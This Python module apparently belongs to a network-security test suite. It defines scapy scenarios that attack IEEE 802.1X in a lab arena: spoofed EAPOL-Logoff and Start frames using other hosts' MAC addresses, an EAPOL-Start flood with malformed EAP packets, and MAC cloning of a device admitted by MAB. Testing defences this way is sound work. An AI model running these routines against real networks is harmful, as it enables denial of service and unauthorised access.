"""IEEE 802.1X and what stands in for it: nobody is logged off, or let in, by what another host says."""

from __future__ import annotations

import struct

from scapy.packet import Raw

from attack.evidence import everything
from attack.frames import BROADCAST, ether
from attack.scenario import ATTACKS, Group, NotHereError
from attack.trial import Trial

group = Group("dot1x", ATTACKS)
_ETHERTYPE = 0x888E
_PAE_GROUP = "01:80:c2:00:00:03"
_START, _LOGOFF = 1, 2
_FLOOD = 100


def _eapol(kind: int, token: bytes) -> Raw:
    """An EAPOL frame without a body (IEEE 802.1X-2020 §11.3); the mark is behind it."""
    return Raw(struct.pack("!BBH", 2, kind, 0) + token)


def _sessions(trial: Trial) -> dict[int, tuple[str, int]]:
    """Every session, with its card and its port."""
    found = trial.arena.api("GET", "/sessions")["sessions"]
    return {one["session"]: (one["mac"], one["port"]) for one in found}


def _changed(before: dict[int, tuple[str, int]], after: dict[int, tuple[str, int]]) -> str:
    """What has become of the sessions, in words; empty if they are as they were."""
    gone = sorted(before.keys() - after.keys())
    fresh = sorted(after.keys() - before.keys())
    return "; ".join(f"session {text} {numbers}" for text, numbers in (("ended", gone), ("began", fresh)) if numbers)


@group.scenario(
    "eapol-logoff",
    reference="IEEE 802.1X-2020 §8.5; Mishra and Arbaugh, Security Analysis of IEEE 802.1X (2002)",
    tried="EAPOL-Logoff and EAPOL-Start with the card of every other host, from two ports, to the group and to all",
    success="a host receives one, or a session ends or begins",
    covers=("eapol",),
    judge=everything,
    quick=True,
)
def logoff(trial: Trial) -> None:
    """Whoever believes a Logoff from another port lets one host log all others off."""
    before = _sessions(trial) if trial.arena.protected else {}
    owners = [name for name in trial.arena.network.network.hosts if name not in trial.attackers]
    for attacker in trial.attackers:
        for kind, word in ((_LOGOFF, "Logoff"), (_START, "Start")):
            for dst in (_PAE_GROUP, BROADCAST):
                token = trial.mark(attacker, f"{word} to {dst} by {attacker}")
                frames = [ether(trial.mac(owner), dst, type=_ETHERTYPE) / _eapol(kind, token) for owner in owners]
                trial.send(attacker, frames)
    if trial.arena.protected:
        trial.arena.settle()
        trial.note("sessions", _changed(before, _sessions(trial)))


@group.scenario(
    "eapol-flood",
    reference="IEEE 802.1X-2020 §8; RFC 3748 §7.5",
    tried=f"{_FLOOD} EAPOL-Start frames with as many cards from each attacker, and odd EAP packets",
    success="a host receives one, or a session ends or begins; others suffer",
    covers=("eapol",),
    judge=everything,
)
def flood(trial: Trial) -> None:
    """Each may cost the authenticator a state, and a question to the RADIUS server."""
    before = _sessions(trial) if trial.arena.protected else {}
    targets = (_PAE_GROUP, BROADCAST)
    for attacker in trial.attackers:
        token = trial.mark(attacker, f"odd EAP by {attacker}")
        for code in range(8):
            for length in (0, 3, 4, 5, 0xFFFF):
                eap = struct.pack("!BBHB", code, 7, length, 1) + token
                body = Raw(struct.pack("!BBH", 2, 0, len(eap)) + eap)
                trial.send(attacker, [ether(trial.mac(attacker), dst, type=_ETHERTYPE) / body for dst in targets])
    for attacker in trial.attackers:
        token = trial.mark(attacker, f"Start by {attacker}")
        cards = [f"02:e0:00:00:{number >> 8:02x}:{number & 255:02x}" for number in range(_FLOOD)]
        trial.send(
            attacker, [ether(card, dst, type=_ETHERTYPE) / _eapol(_START, token) for card in cards for dst in targets]
        )
    if trial.arena.protected:
        trial.arena.settle()
        trial.note("sessions", _changed(before, _sessions(trial)))


@group.scenario(
    "mab-clone",
    reference="IEEE 802.1X-2020 §5; Duckwall, A Bridge Too Far (DEF CON 19)",
    tried="the card of a device that is let in by its MAC address alone, at the attackers' own ports",
    success="a frame in its name reaches a host, or the clone has a session",
    covers=("mab-clone", "spoof"),
    judge=everything,
    quick=True,
)
def clone(trial: Trial) -> None:
    """A MAC address can be read off the printer. It counts at the port that takes it, and as nothing more."""
    hosts = trial.arena.network.network.hosts
    device = next((name for name, host in hosts.items() if any(one.via == "mab" for one in host.logins)), None)
    if device is None:
        raise NotHereError("no device is let in by its MAC address alone")
    before = _sessions(trial) if trial.arena.protected else {}
    target = trial.cast.victim if trial.cast.victim != device else trial.cast.service.target
    for attacker in (name for name in trial.attackers if name != device):
        token = trial.mark(attacker, f"as {device} by {attacker}")
        body = Raw(b"\x45\0\0\x24\0\1\0\0\x40\xfd" + bytes(10) + token)
        frames = [ether(trial.mac(device), trial.mac(target), type=0x0800) / body]
        frames += [ether(trial.mac(device), _PAE_GROUP, type=_ETHERTYPE) / _eapol(_START, token)]
        trial.send(attacker, frames * 5, gap=0.02)
    if trial.arena.protected:
        trial.arena.settle()
        trial.note("sessions", _changed(before, _sessions(trial)))
